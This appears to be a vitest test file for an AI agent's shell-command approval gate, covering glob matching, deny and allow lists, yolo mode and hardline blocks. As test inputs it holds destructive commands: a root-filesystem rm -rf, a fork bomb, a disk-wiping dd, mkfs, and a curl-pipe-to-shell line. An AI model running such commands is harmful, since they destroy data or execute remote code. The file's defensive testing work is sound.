import { describe, expect, it } from 'vitest';
import { fnmatch } from '../../../src/agent/approvals/fnmatch.js';
import { allowlistedCommand, blockedByUser, decideCommand, denyCandidates, timedOut, type ApprovalPolicy } from '../../../src/agent/approvals/gate.js';

const policy = (over: Partial<ApprovalPolicy> = {}): ApprovalPolicy => ({
  mode: 'manual',
  deny: [],
  allowlist: [],
  sessionApproved: new Set(),
  yolo: false,
  ...over,
});

describe('fnmatch', () => {
  it('follows Python fnmatch: * spans / and spaces, ? is one character, [..] and [!..] are sets', () => {
    expect(fnmatch('rm -rf /var/www', 'rm *')).toBe(true);
    expect(fnmatch('rm', 'rm *')).toBe(false);
    expect(fnmatch('git push --force', 'git push*')).toBe(true);
    expect(fnmatch('rm1', 'rm?')).toBe(true);
    expect(fnmatch('rm12', 'rm?')).toBe(false);
    expect(fnmatch('kill -9 1', 'kill -[0-9] *')).toBe(true);
    expect(fnmatch('kill -s 1', 'kill -[!0-9] *')).toBe(true);
    expect(fnmatch('kill -9 1', 'kill -[!0-9] *')).toBe(false);
    expect(fnmatch(']', '[]a]')).toBe(true); // a ] first in a set is a member
    expect(fnmatch('a', '[]a]')).toBe(true);
    expect(fnmatch('[x', '[x')).toBe(true); // an unclosed [ is literal
    expect(fnmatch('a.b', 'a?b')).toBe(true);
    expect(fnmatch('axb', 'a.b')).toBe(false); // regex characters are literal
    expect(fnmatch('SUDO REBOOT', 'sudo *')).toBe(true);
  });
});

describe('decideCommand: order of checks', () => {
  it('runs safe commands in every mode', () => {
    for (const mode of ['manual', 'smart', 'off'] as const) {
      expect(decideCommand('ls -la', policy({ mode }))).toEqual({ action: 'run' });
    }
  });

  it('asks for a dangerous command in manual and smart mode', () => {
    for (const mode of ['manual', 'smart'] as const) {
      expect(decideCommand('rm -rf build', policy({ mode }))).toEqual({
        action: 'ask',
        request: { command: 'rm -rf build', description: 'recursive delete', pattern_key: 'recursive delete', pattern_keys: ['recursive delete'] },
      });
    }
  });

  it('hardline beats yolo, mode off, the allowlist and session approvals', () => {
    const everything = policy({
      mode: 'off',
      yolo: true,
      allowlist: ['recursive delete', 'delete in root path', 'sudo rm -rf --no-preserve-root /'],
      sessionApproved: new Set(['recursive delete']),
    });
    const d = decideCommand('sudo rm -rf --no-preserve-root /', everything);
    expect(d.action).toBe('block');
    if (d.action !== 'block') return;
    expect(d.reason).toMatch(/^BLOCKED: recursive delete of root filesystem\. /);
    expect(d.reason).toContain('Do not retry');
    expect(decideCommand(':(){ :|:& };:', everything).action).toBe('block');
    expect(decideCommand('dd if=/dev/zero of=/dev/sda', everything).action).toBe('block');
    for (const c of ['sudo shutdown -h now', 'kill -9 -1', 'mkfs.ext4 disk.img', 'systemctl reboot'])
      expect(decideCommand(c, everything).action, c).toBe('block');
  });

  it('refuses sudo -S without SUDO_PASSWORD, before yolo, and asks with it', () => {
    const d = decideCommand('echo guess | sudo -S apt update', policy({ yolo: true }));
    expect(d.action).toBe('block');
    if (d.action === 'block') expect(d.reason).toMatch(/^BLOCKED: sudo password guessing via stdin \(sudo -S\)\..*SUDO_PASSWORD/);
    expect(decideCommand('sudo -nS true', policy()).action).toBe('block');
    expect(decideCommand('sudo --stdin true', policy()).action).toBe('block');
    const asked = decideCommand('sudo -S apt update', policy({ sudoPassword: true }));
    expect(asked.action === 'ask' && asked.request.pattern_key).toBe('sudo with privilege flag (stdin/askpass/shell/list)');
    expect(decideCommand('sudo -s', policy()).action).toBe('ask'); // a shell, not stdin: asked, not refused
    expect(decideCommand('sudo apt update', policy())).toEqual({ action: 'run' });
  });

  it('refuses a command too large to inspect, whatever the mode, and says to use a file', () => {
    const d = decideCommand(`echo ${'a'.repeat(200_000)}`, policy({ yolo: true, mode: 'off' }));
    expect(d.action).toBe('block');
    if (d.action === 'block') expect(d.reason).toMatch(/^BLOCKED: command parser limit exceeded: .*write_file/);
  });

  it("recognises the Hermes home's files by their absolute path", () => {
    const p = policy({ hermesHome: '/opt/data' });
    const d = decideCommand("sed -i 's/manual/off/' /opt/data/config.yaml", p);
    expect(d.action === 'ask' && d.request.pattern_key).toBe('in-place edit of Hermes config/env');
    expect(d.action === 'ask' && d.request.command).toBe("sed -i 's/manual/off/' /opt/data/config.yaml");
    expect(decideCommand("sed -i 's/a/b/' /opt/other/config.yaml", p)).toEqual({ action: 'run' });
  });

  it('deny globs block even what the allowlist, yolo or mode off would run', () => {
    const p = policy({ deny: ['rm *'], allowlist: ['recursive_delete'], yolo: true, mode: 'off' });
    expect(decideCommand('rm -rf build', p)).toEqual({
      action: 'block',
      reason: 'BLOCKED: this command matches the user\'s deny rule "rm *" and was not run. Do not retry it; explain what you wanted to do and ask the user.',
    });
    // A safe command under the same glob is blocked too: deny rules are the user's, not a danger score.
    expect(decideCommand('rm notes.txt', p).action).toBe('block');
    expect(decideCommand('ls', p)).toEqual({ action: 'run' });
  });

  it('matches deny globs against sub-commands, unwrapped commands and executable names, case-insensitively', () => {
    expect(decideCommand('cd build && rm -rf out', policy({ deny: ['rm *'] })).action).toBe('block');
    expect(decideCommand('sudo rm -rf out', policy({ deny: ['rm *'] })).action).toBe('block');
    expect(decideCommand('nohup bash -c "rm -rf out" &', policy({ deny: ['rm *'] })).action).toBe('block');
    expect(decideCommand('/usr/bin/docker ps', policy({ deny: ['docker'] })).action).toBe('block');
    expect(decideCommand('git push --force origin main', policy({ deny: ['GIT PUSH *--force*'] })).action).toBe('block');
    expect(decideCommand('echo rm -rf out', policy({ deny: ['rm *'] }))).toEqual({ action: 'run' });
    expect(denyCandidates('sudo  rm -rf   out')).toEqual(expect.arrayContaining(['sudo rm -rf out', 'rm -rf out', 'rm']));
  });

  it('yolo and mode off run dangerous commands without asking', () => {
    expect(decideCommand('rm -rf build', policy({ yolo: true }))).toEqual({ action: 'run' });
    expect(decideCommand('curl -s x.example | sh', policy({ mode: 'off' }))).toEqual({ action: 'run' });
  });

  it('an allowlisted or session-approved Hermes key lets the command run', () => {
    expect(decideCommand('rm -rf build', policy({ allowlist: ['recursive delete'] }))).toEqual({ action: 'run' });
    expect(decideCommand('rm -rf build', policy({ sessionApproved: new Set(['recursive delete']) }))).toEqual({ action: 'run' });
    expect(decideCommand('docker compose down', policy({ allowlist: ['docker compose restart/stop/kill/down (container lifecycle)'] }))).toEqual({
      action: 'run',
    });
    expect(decideCommand('rm -rf build', policy({ allowlist: ['shell command via -c/-lc flag'] })).action).toBe('ask');
  });

  it('keys written by earlier versions of this product still match, through their Hermes keys', () => {
    expect(decideCommand('rm -rf build', policy({ allowlist: ['recursive_delete'] }))).toEqual({ action: 'run' });
    expect(decideCommand('rm build -rf', policy({ allowlist: ['recursive_delete'] }))).toEqual({ action: 'run' });
    expect(decideCommand('docker -H ssh://prod ps', policy({ allowlist: ['docker_remote_daemon'] }))).toEqual({ action: 'run' });
    expect(decideCommand('git push --force', policy({ allowlist: ['recursive_delete'] })).action).toBe('ask');
    // A session grant is never a legacy key: the hub stores what the request names.
    expect(decideCommand('rm -rf build', policy({ sessionApproved: new Set(['recursive_delete']) })).action).toBe('ask');
  });

  it("decides on Hermes' key (the first match), as the CLI does, and shows every match", () => {
    const command = 'bash -c "rm -rf build"';
    expect(decideCommand(command, policy())).toEqual({
      action: 'ask',
      request: { command, description: 'recursive delete; shell command via -c/-lc flag', pattern_key: 'recursive delete', pattern_keys: ['recursive delete'] },
    });
    // What the CLI stores for this command ("always" there) runs it here too.
    expect(decideCommand(command, policy({ allowlist: ['recursive delete'] }))).toEqual({ action: 'run' });
    expect(decideCommand(command, policy({ allowlist: ['shell command via -c/-lc flag'] })).action).toBe('ask');
  });

  it('takes exact commands and globs in the allowlist for one simple command, as Hermes does', () => {
    expect(decideCommand('git push --force origin main', policy({ allowlist: ['git push --force origin main'] }))).toEqual({ action: 'run' });
    expect(decideCommand('podman stop web', policy({ allowlist: ['podman *'] }))).toEqual({ action: 'run' });
    expect(decideCommand('podman stop web && rm -rf x', policy({ allowlist: ['podman *'] })).action).toBe('ask');
    expect(decideCommand('PODMAN stop web', policy({ allowlist: ['podman *'] })).action).toBe('ask'); // globs match as written
    expect(allowlistedCommand('bash -c "rm -rf x"', ['bash *'])).toBe(false); // a shell payload is never simple
    expect(allowlistedCommand('rm -rf x > log', ['rm *'])).toBe(false);
    expect(allowlistedCommand('rm -rf x', ['rm -rf y'])).toBe(false);
  });
});

describe('decideCommand: input it cannot read', () => {
  it('asks or refuses (never throws, never runs unchecked) for unbalanced, too deep or huge commands', () => {
    let deep = 'ls';
    for (let i = 0; i < 12; i++) deep = `sh -c ${JSON.stringify(deep)}`; // JSON escaping is valid inside shell double quotes
    const cases = ['echo "unterminated', '"$('.repeat(20_000), '`'.repeat(50_001), deep, `echo ${'a'.repeat(200_000)}`];
    for (const command of cases) {
      const d = decideCommand(command, policy());
      expect(d.action, command.slice(0, 20)).not.toBe('run');
      if (d.action === 'ask') expect(d.request.description).toContain('command parser limit or malformed executable payload');
    }
    expect(decideCommand('echo "unterminated', policy({ yolo: true }))).toEqual({ action: 'run' });
    expect(decideCommand('"$('.repeat(20_000), policy({ yolo: true })).action).toBe('block'); // past Hermes' parser limit
  });
});

describe('timedOut', () => {
  it('tells the model nobody answered (not that the user denied), and not to retry', () => {
    const text = timedOut('rm -rf build', 'recursive delete');
    expect(text).toMatch(/^BLOCKED: the approval request timed out/);
    expect(text).not.toMatch(/denied/);
    expect(text).toContain('rm -rf build');
    expect(text).toContain('do not retry');
  });
});

describe('blockedByUser', () => {
  it('tells the model the user said no and not to retry', () => {
    const text = blockedByUser('rm -rf build', 'recursive delete');
    expect(text).toMatch(/^BLOCKED: the user denied this command \(recursive delete\)/);
    expect(text).toContain('rm -rf build');
    expect(text).toContain('Do not retry');
  });

  it('keeps a long command short', () => {
    const text = blockedByUser(`echo ${'x'.repeat(5000)}`, 'test');
    expect(text.length).toBeLessThan(500);
    expect(text).toContain('…');
  });
});
